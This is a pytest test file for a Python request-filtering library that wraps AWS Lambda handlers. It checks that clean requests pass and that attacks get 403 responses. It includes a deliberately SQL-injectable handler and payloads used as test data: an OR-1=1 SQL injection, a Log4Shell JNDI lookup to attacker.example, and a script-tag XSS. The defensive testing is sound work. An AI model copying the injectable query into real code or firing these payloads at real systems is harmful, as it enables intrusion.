"""@protect for Lambda handlers, with real API Gateway v1/v2, ALB and Function URL event shapes."""

from __future__ import annotations

import base64
import copy
import json
import sqlite3
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode

import pytest

from soryoku.shield import ShieldConfig
from soryoku.shield.aws_lambda import event_kind, event_view, protect

EVENTS = Path(__file__).parent / "events"
KINDS = {"apigw_rest_v1": "rest_v1", "apigw_http_v2": "http_v2", "function_url": "function_url", "alb": "alb"}


def load(name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((EVENTS / f"{name}.json").read_text())
    return data


def with_query(event: dict[str, Any], name: str, value: str) -> dict[str, Any]:
    """The same event with query parameter ``name`` set the way its trigger would encode it."""
    event = copy.deepcopy(event)
    if "rawQueryString" in event:
        event["rawQueryString"] = urlencode({name: value})
        event["queryStringParameters"] = {name: value}
    elif "elb" in event["requestContext"]:
        event["queryStringParameters"] = {name: quote(value)}
    else:
        event["queryStringParameters"] = {name: value}
        event["multiValueQueryStringParameters"] = {name: [value]}
    return event


def handler(event: dict[str, Any], context: Any) -> dict[str, Any]:
    """A vulnerable handler: the q parameter goes into SQL by string building."""
    kind = event_kind(event)
    assert kind is not None
    q = dict(parse_qsl(event_view(event, kind).query_string))["q"]
    conn = sqlite3.connect(":memory:")
    try:
        conn.execute("CREATE TABLE items (name TEXT)")
        conn.execute("INSERT INTO items VALUES ('red shoes')")
        rows = conn.execute(f"SELECT name FROM items WHERE name = '{q}'").fetchall()
    except sqlite3.Error as error:
        return {"statusCode": 500, "body": str(error)}
    finally:
        conn.close()
    return {"statusCode": 200, "body": json.dumps(rows)}


@pytest.mark.parametrize(("name", "kind"), sorted(KINDS.items()))
def test_event_kinds_and_views(name: str, kind: str) -> None:
    event = load(name)
    assert event_kind(event) == kind
    view = event_view(event, event_kind(event))  # type: ignore[arg-type]
    assert view.path == "/search"
    assert view.remote_addr.startswith("198.51.100.")
    assert (view.header("user-agent") or "").startswith("Mozilla/5.0")


def test_function_url_body_and_cookies() -> None:
    view = event_view(load("function_url"), "function_url")
    assert view.method == "POST"
    assert json.loads(view.body) == {"name": "O'Brien"}
    cookies = event_view(load("apigw_http_v2"), "http_v2").header("cookie")
    assert cookies == "session=abc123; theme=dark"


@pytest.mark.parametrize("name", sorted(KINDS))
def test_clean_event_reaches_the_handler(name: str) -> None:
    guarded = protect(handler, config=ShieldConfig(mode="block"))
    response = guarded(with_query(load(name), "q", "red shoes"), None)
    assert response == {"statusCode": 200, "body": '[["red shoes"]]'}


@pytest.mark.parametrize("name", sorted(KINDS))
def test_sql_injection_gets_the_triggers_403_shape(name: str) -> None:
    guarded = protect(config=ShieldConfig(mode="block"))(handler)
    response = guarded(with_query(load(name), "q", "x' OR '1'='1"), None)
    assert response["statusCode"] == 403
    assert response["isBase64Encoded"] is False
    headers = response.get("headers") or {k: v[0] for k, v in response["multiValueHeaders"].items()}
    assert headers["x-soryoku-block"] == "sqli:token_structure"
    if name == "alb":
        assert response["statusDescription"] == "403 Forbidden"


def test_alb_multi_value_headers_response() -> None:
    event = load("alb")
    event["multiValueHeaders"] = {k: [v] for k, v in event.pop("headers").items()}
    event["multiValueHeaders"]["user-agent"] = ["${jndi:ldap://attacker.example/x}"]
    response = protect(handler, config=ShieldConfig(mode="block"))(event, None)
    assert response["multiValueHeaders"]["x-soryoku-block"] == ["known_bad_inputs:log4shell"]
    assert "headers" not in response


def test_non_http_events_pass_through() -> None:
    sqs = {"Records": [{"eventSource": "aws:sqs", "body": "${jndi:ldap://x}"}]}
    assert (
        protect(lambda event, context: "handled", config=ShieldConfig(mode="block"))(sqs, None) == "handled"
    )


def test_base64_body_is_inspected() -> None:
    event = load("function_url")
    event["body"] = base64.b64encode(b'{"bio": "<script>alert(1)</script>"}').decode()
    response = protect(lambda e, c: {"statusCode": 200}, config=ShieldConfig(mode="block"))(event, None)
    assert response["headers"]["x-soryoku-block"] == "xss:script_tag"


def test_exporter_is_flushed_at_the_end_of_an_invocation_with_events() -> None:
    from soryoku.core.finding import Finding
    from soryoku.shield.exporter import FindingExporter

    delivered: list[Finding] = []
    exporter = FindingExporter(delivered.extend).start()
    try:
        guarded = protect(handler, config=ShieldConfig(mode="block"), exporter=exporter)
        assert guarded(with_query(load("apigw_http_v2"), "q", "red shoes"), None)["statusCode"] == 200
        assert delivered == []
        assert guarded(with_query(load("apigw_http_v2"), "q", "x' OR '1'='1"), None)["statusCode"] == 403
        assert [f.check_id for f in delivered] == ["soryoku:shield:sqli:token_structure"]
    finally:
        exporter.close()
